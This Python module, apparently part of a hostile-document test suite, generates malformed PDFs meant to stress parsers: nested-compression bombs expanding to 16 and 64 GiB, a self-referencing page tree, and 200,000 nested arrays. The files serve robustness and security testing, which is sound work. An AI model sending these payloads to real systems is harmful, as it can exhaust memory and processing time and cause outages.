"""PDF: streams that unpack without end, loops, and depth."""

from __future__ import annotations

import io
import struct
import zlib

from hostile_documents.packing import GIB, zlibbed


def pdf_object_stream_bomb() -> bytes:
    """A compressed object stream, packed twice, which has to be unpacked whole to find one object in it."""
    packed = zlib.compress(zlibbed(b"3 0 << /Type /Pages /Kids [] /Count 0 >> ", 16 * GIB), 9)
    entries = b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"
    return _pdf_with_object_stream({1: b"<< /Type /Catalog /Pages 3 0 R >>", 2: _stream(packed, entries)})


def _pdf_with_object_stream(objects: dict[int, bytes]) -> bytes:
    """A PDF with a cross-reference stream (4), which says that object 3 is the first one in stream 2."""
    out = b"%PDF-1.7\n"
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    free, plain, packed = 0, 1, 2
    rows = [
        (free, 0, 255),
        (plain, offsets[1], 0),
        (plain, offsets[2], 0),
        (packed, 2, 0),
        (plain, len(out), 0),
    ]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    entries = b"/Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R"
    return out + b"4 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (_stream(table, entries), len(out))


def pdf_stream_bomb() -> bytes:
    """A page's content of 64 GiB, packed twice: it passes through in small pieces, for minutes."""
    packed = zlib.compress(zlibbed(b"", 64 * GIB), 6)
    return _pdf(_one_page(_stream(packed, b"/Filter [/FlateDecode /FlateDecode]")))


def pdf_page_loop() -> bytes:
    """A page tree that is its own child."""
    return _pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})


def pdf_deep() -> bytes:
    """Arrays inside arrays, 200,000 of them."""
    return _pdf(_one_page(b"[" * 200_000 + b"]" * 200_000))


def _pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF with these objects and a classic cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    out.writelines(b"%010d 00000 n \n" % offsets[number] for number in range(1, size))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start))
    return out.getvalue()


def _stream(data: bytes, entries: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def _one_page(content: bytes) -> dict[int, bytes]:
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << >> >>",
        4: content,
    }
